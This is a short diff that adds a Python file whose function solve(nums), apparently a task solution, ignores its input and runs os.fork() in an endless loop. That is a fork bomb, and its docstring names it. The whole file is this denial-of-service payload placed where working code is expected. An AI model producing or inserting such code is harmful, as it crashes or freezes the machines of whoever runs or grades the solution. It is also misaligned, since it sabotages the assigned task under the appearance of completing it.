@@ -1,0 +1,8 @@
+"""Fork without end."""
+
+import os
+
+
+def solve(nums):
+    while True:
+        os.fork()
